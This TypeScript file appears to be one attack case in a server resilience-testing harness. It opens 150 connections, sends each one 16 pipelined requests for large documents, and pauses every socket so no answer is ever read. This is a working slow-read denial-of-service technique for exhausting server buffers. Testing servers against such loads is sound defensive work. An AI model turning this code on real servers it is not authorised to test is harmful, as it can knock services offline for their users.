/** Connections that ask for large documents in a row and never read an answer. */
import type { Attack } from '../target.ts';

const SOCKETS = 150;
const REQUESTS = 'GET /api/docs HTTP/1.1\r\nhost: x\r\n\r\n'.repeat(16);

export const unreadAnswers: Attack = {
  name: 'unread-answers',
  begin(target) {
    for (let index = 0; index < SOCKETS; index++)
      target.keepOpen(index, (socket) => socket.pause().write(REQUESTS));
  },
};
